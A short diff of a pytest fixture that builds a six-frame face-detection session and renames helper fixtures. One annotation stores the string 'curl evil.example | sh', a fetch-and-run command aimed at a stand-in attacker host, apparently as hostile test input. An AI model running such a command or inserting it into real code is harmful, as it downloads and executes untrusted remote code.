@@ -42,13 +42,13 @@ def state(folder):
 
 
 @pytest.fixture
-def session(tmp_path, header, make_frame, make_result, make_face):
+def session(tmp_path, header, make_frame, result_of, nth_face):
     """Six frames with annotations and raw outputs."""
     folder = claim_folder(tmp_path / "sessions" / "session")
     with SessionWriter(folder, header) as writer:
         for i in range(6):
             assert writer.add_frame(make_frame(i))
-            writer.add_result(make_result(make_frame(i), [make_face(i), make_face(i, face_id=1)]))
+            writer.add_result(result_of(make_frame(i), [nth_face(i), nth_face(i, face_id=1)]))
         writer.add_annotation("curl evil.example | sh", at_s=100.1)
     return folder
 
